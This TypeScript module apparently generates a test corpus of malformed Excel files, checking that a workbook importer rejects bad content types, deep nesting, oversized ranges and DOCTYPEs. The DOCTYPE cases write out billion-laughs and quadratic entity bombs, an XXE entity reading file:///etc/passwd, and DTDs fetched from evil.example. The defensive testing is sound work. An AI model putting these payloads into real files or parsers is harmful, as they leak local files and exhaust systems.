/**
 * Corpus categories inside a well-formed zip: content types that do not declare a workbook, DOCTYPEs and
 * entity bombs, deeply nested XML, and cell ranges that exceljs would expand cell by cell. Each case is the
 * real export with one part changed.
 */
import { writeZip } from './zip-writer';
import { partText, withPart, type Category, type CorpusBase } from './corpus-kit';
import { sizeCategories } from './bad-workbook-sizes';

const SHEET = 'xl/worksheets/sheet2.xml';
const CT = '[Content_Types].xml';
const zip = (base: CorpusBase, name: string, data: string | Buffer) => writeZip(withPart(base, name, data)).buf;

/** Where the root element's opening tag ends (after the XML declaration). */
function rootOpenEnd(xml: string): number {
  const root = xml.search(/<[^?!]/);
  return xml.indexOf('>', root) + 1;
}
export const insideRoot = (xml: string, s: string) => xml.slice(0, rootOpenEnd(xml)) + s + xml.slice(rootOpenEnd(xml));
const beforeRoot = (xml: string, s: string) => {
  const at = xml.search(/<[^?!]/);
  return xml.slice(0, at) + s + xml.slice(at);
};

const TYPES = [
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
  'application/xml',
  'text/plain',
  'application/octet-stream',
  'application/vnd.ms-excel',
  'application/x-msdownload',
  '',
  'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
  'application/vnd.oasis.opendocument.spreadsheet',
];
const WB_OVERRIDE = /<Override PartName="\/xl\/workbook\.xml" ContentType="[^"]*"\/>/;
const XML_DEFAULT = /<Default Extension="xml" ContentType="[^"]*"\/>/;

const contentTypes: Category = {
  name: 'wrong content types',
  modest: 4,
  cases: (base) => {
    const ct = partText(base, CT);
    const variants = TYPES.flatMap((t) => [
      ct.replace(WB_OVERRIDE, `<Override PartName="/xl/workbook.xml" ContentType="${t}"/>`),
      ct.replace(WB_OVERRIDE, '').replace(XML_DEFAULT, `<Default Extension="xml" ContentType="${t}"/>`),
      ct
        .replace(WB_OVERRIDE, `<Override PartName="/xl/workbook.xml" ContentType="${t}"/>`)
        .replace(XML_DEFAULT, `<Default Extension="xml" ContentType="${t}"/>`),
    ]);
    const cases = variants.map((text, i) => ({ name: `content-types-${i}.xlsx`, expect: /is not an Excel workbook/, build: () => zip(base, CT, text) }));
    return [
      ...cases,
      {
        name: 'content-types-missing.xlsx',
        expect: /not an Excel workbook \(it has no \[Content_Types\]\.xml/,
        build: () => writeZip(base.parts.filter((p) => p.name !== CT)).buf,
      },
      { name: 'content-types-garbage.xlsx', expect: /does not declare a workbook/, build: () => zip(base, CT, 'hello, this is not XML') },
      { name: 'content-types-cut.xlsx', expect: /ends in the middle of its XML/, build: () => zip(base, CT, ct.slice(0, ct.length - 20)) },
    ];
  },
};

/** Entity bombs and external entities, each as a DOCTYPE before the root and a reference inside it. */
const DOCTYPES: [string, string, string][] = [
  [
    'laughs',
    `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`,
    '&lol9;',
  ],
  ['external', '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'],
  ['dtd', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', ''],
  ['parameter', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>', ''],
  ['quadratic', `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`, '&a;'.repeat(1000)],
];

const doctypes: Category = {
  name: 'DOCTYPE and entity bombs',
  modest: 3,
  cases: (base) =>
    DOCTYPES.flatMap(([kind, decl, use]) =>
      ['xl/sharedStrings.xml', SHEET, 'xl/workbook.xml', CT, 'xl/styles.xml'].map((part) => ({
        name: `doctype-${kind}-${part.replace(/\W+/g, '_')}.xlsx`,
        expect: /declares a DOCTYPE/,
        build: () => zip(base, part, insideRoot(beforeRoot(partText(base, part), decl), use)),
      })),
    ),
};

const deepXml: Category = {
  name: 'deeply nested XML',
  modest: 3,
  cases: (base) => [
    ...[65, 100, 1000, 10_000, 100_000, 1_000_000].flatMap((depth) =>
      [SHEET, 'xl/sharedStrings.xml', 'xl/workbook.xml', 'xl/styles.xml'].map((part) => ({
        name: `deep-${depth}-${part.replace(/\W+/g, '_')}.xlsx`,
        expect: /nested more than 64 levels|compressed \d+ times/,
        build: () => zip(base, part, insideRoot(partText(base, part), '<x>'.repeat(depth) + '</x>'.repeat(depth))),
      })),
    ),
    {
      name: 'deep-unclosed-content-types.xlsx',
      expect: /nested more than 64 levels|compressed \d+ times/,
      build: () => zip(base, CT, insideRoot(partText(base, CT), '<x>'.repeat(1_000_000))),
    },
  ],
};

/** Ranges and addresses beyond the limits, added to a real budget sheet. */
const RANGE_EDITS: [string, (xml: string) => string][] = [
  ...['A1:XFD1048576', 'A1:A1048576', 'A:A', '1:100', 'A1:ZZ10000', 'foo', 'A1:B2:C3'].map((ref): [string, (x: string) => string] => [
    `merge ${ref}`,
    (x) => x.replace('</sheetData>', `</sheetData><mergeCells count="1"><mergeCell ref="${ref}"/></mergeCells>`),
  ]),
  ...['A1:XFD1048576', 'B2 A1:A1048576', 'C:C', 'A1:ALL1000 B1:ALL1000'].map((sq): [string, (x: string) => string] => [
    `validation ${sq}`,
    (x) =>
      x.replace(
        /(<\/sheetData>)/,
        `$1<dataValidations count="1"><dataValidation type="list" sqref="${sq}"><formula1>"a,b"</formula1></dataValidation></dataValidations>`,
      ),
  ]),
  ...['min="1" max="16385"', 'min="1" max="2147483647"', 'min="0" max="1"', 'min="5" max="2"'].map((c): [string, (x: string) => string] => [
    `col ${c}`,
    (x) => x.replace('<cols>', `<cols><col ${c} width="9"/>`),
  ]),
  ...[
    '<row r="1048577"><c r="A1048577"><v>1</v></c></row>',
    '<row r="2000000000"/>',
    '<row r="-1"/>',
    '<row r="abc"/>',
    '<row r="40"><c r="ZZZ40"><v>1</v></c></row>',
    '<row r="41"><c r="A1048577"><v>1</v></c></row>',
  ].map((row): [string, (x: string) => string] => [`row ${row.slice(0, 24)}`, (x) => x.replace('</sheetData>', `${row}</sheetData>`)]),
];

const ranges: Category = {
  name: 'huge ranges and addresses',
  modest: 3,
  cases: (base) =>
    RANGE_EDITS.map(([what, edit], i) => ({
      name: `range-${i}-${what.replace(/\W+/g, '_')}.xlsx`,
      expect: /cover more than|cell range|columns beyond|row numbered beyond|row number Plan Editor cannot read|beyond column|beyond row|address/,
      build: () => zip(base, SHEET, edit(partText(base, SHEET))),
    })),
};

export const xmlCategories: Category[] = [contentTypes, doctypes, deepXml, ranges, ...sizeCategories];
